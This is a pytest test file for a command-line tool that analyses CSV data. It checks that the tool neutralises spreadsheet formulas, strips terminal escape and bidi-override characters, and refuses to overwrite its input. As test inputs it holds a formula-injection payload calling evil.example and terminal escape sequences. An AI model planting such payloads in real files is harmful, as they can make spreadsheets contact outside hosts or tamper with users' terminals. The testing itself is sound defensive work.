"""Files from strangers: no name commands a terminal or a spreadsheet, and nothing that is asked about is overwritten."""

import csv
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.core.cli.spread_support import document, spread

ESCAPE, TURN = "\x1b", "\u202e"
FORMULA = '=WEBSERVICE("http://evil.example/")'


def ran(*arguments: str | Path, **more: object) -> subprocess.CompletedProcess[bytes]:
    """The command in a process of its own, for what happens to its streams."""
    command = [sys.executable, "-m", "core.cli", "spread", *map(str, arguments)]
    return subprocess.run(command, check=False, stderr=subprocess.PIPE, **more)  # type: ignore[call-overload, no-any-return]


@pytest.fixture
def edges(tmp_path: Path) -> Path:
    path = tmp_path / "edges.csv"
    path.write_text("child,parent\na,\nb,a\n", encoding="utf-8")
    return path


def test_no_cell_of_the_bad_rows_is_a_formula(tmp_path: Path) -> None:
    file, bad = tmp_path / "edges.csv", tmp_path / "bad.csv"
    with file.open("w", newline="", encoding="utf-8") as out:
        csv.writer(out).writerows([["child", "parent"], [FORMULA, ""], [FORMULA, ""], [FORMULA, FORMULA]])
    assert spread("analyse", file, "--bad-rows", bad).exit_code == 0
    rows = list(csv.reader(bad.read_text(encoding="utf-8-sig").splitlines()))
    assert len(rows) == 3
    assert rows[1][2].startswith("'=WEBSERVICE")
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


@pytest.mark.parametrize(
    "text",
    [
        f"tree,child,parent\nt{ESCAPE}[2J,a,\nt,b,\nt,c,b\n",
        f"child,parent\na{TURN}b,\na{TURN}b,\nc{ESCAPE}[2J,a\n",
        f"child,{ESCAPE}]0;PWNED\na,\n",
        f"child,parent\na{ESCAPE},\n",
        f"child,parent,time\na,,1\nb,a,{ESCAPE}]0;PWNED\n",
    ],
)
def test_no_mark_of_the_file_reaches_a_terminal(text: str) -> None:
    for more in ((), ("--json",)):
        result = spread("analyse", "-", *more, stdin=text)
        assert ESCAPE not in result.output
        assert TURN not in result.output


def test_what_machines_read_still_says_which_mark_it_was() -> None:
    found = document("analyse", "-", stdin=f"child,parent\na{TURN}b,\nc,a{TURN}b\n")
    assert found["summary"]["leaders_below"][0]["label"] == f"a{TURN}b"


@pytest.mark.parametrize("encoding", ["utf-8:strict", "ascii:strict"])
def test_bytes_that_are_no_text_stop_no_report(tmp_path: Path, encoding: str) -> None:
    file = tmp_path / os.fsdecode(b"edges-\xff.csv")
    file.write_bytes("tree,child,parent\nt1,陈静,\nt\udcff,b,\nt1,c,陈静\n".encode(errors="surrogateescape"))
    environment = {**os.environ, "PYTHONIOENCODING": encoding}
    told = ran("analyse", file, stdout=subprocess.PIPE, env=environment)
    assert (told.returncode, told.stderr) == (0, b"")
    said = ran("analyse", file, "--json", "--html", tmp_path / "page.html", stdout=subprocess.PIPE, env=environment)
    assert said.returncode == 0
    assert json.loads(said.stdout.decode())["rows"]["left_out"] == 1


def test_an_endless_head_is_not_repeated_in_full() -> None:
    result = spread("analyse", "-", stdin=f"child,{'x' * 100_000}\na,b\n")
    assert result.exit_code == 1
    assert "tables.no_such_column" in result.stderr
    assert len(result.stderr) < 2_000


@pytest.mark.parametrize("option", ["--html", "--bad-rows"])
def test_the_file_itself_is_never_overwritten(edges: Path, option: str) -> None:
    before, link = edges.read_bytes(), edges.with_name("link.csv")
    link.symlink_to(edges)
    for output in (edges, link, edges.parent / "." / edges.name):
        result = spread("analyse", edges, option, output)
        assert result.exit_code == 2
        assert "same file" in result.stderr
    assert edges.read_bytes() == before


def test_two_outputs_are_two_files(edges: Path) -> None:
    output = edges.with_name("out")
    assert spread("analyse", edges, "--html", output, "--bad-rows", output).exit_code == 2
    assert not output.exists()


@pytest.mark.parametrize("option", ["--window", "--half-life"])
@pytest.mark.parametrize("days", ["nan", "inf", "1e308", "0", "-1"])
def test_days_are_finite_and_above_zero(option: str, days: str) -> None:
    result = spread("attribute", "-", option, days, stdin="journey,time,label\n1,1,a\n")
    assert result.exit_code == 2


def test_a_value_that_stands_where_nothing_converts_fails_when_strict() -> None:
    text = "journey,time,label,conversion,value\n1,1,ad,0,500\n1,2,mail,1,0\n"
    assert spread("attribute", "-", "--strict", stdin=text).exit_code == 3
    assert document("attribute", "-", stdin="journey,time,label,value\n1,1,ad,500\n1,2,mail,0\n")["value"] == 500


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs a device that is always full")
@pytest.mark.parametrize("more", [(), ("--json",)])
def test_a_full_disk_is_told_in_one_line(edges: Path, more: tuple[str, ...]) -> None:
    with Path("/dev/full").open("wb") as full:
        result = ran("analyse", edges, *more, stdout=full)
    assert result.returncode == 1
    assert result.stderr.decode().splitlines() == [
        "Error: The report cannot be written: No space left on device. [output.unwritable]"
    ]


@pytest.mark.parametrize("more", [(), ("--json",)])
def test_a_reader_who_leaves_hears_nothing(edges: Path, more: tuple[str, ...]) -> None:
    reading, writing = os.pipe()
    os.close(reading)
    try:
        result = ran("analyse", edges, *more, stdout=writing)
    finally:
        os.close(writing)
    assert (result.returncode, result.stderr) == (1, b"")
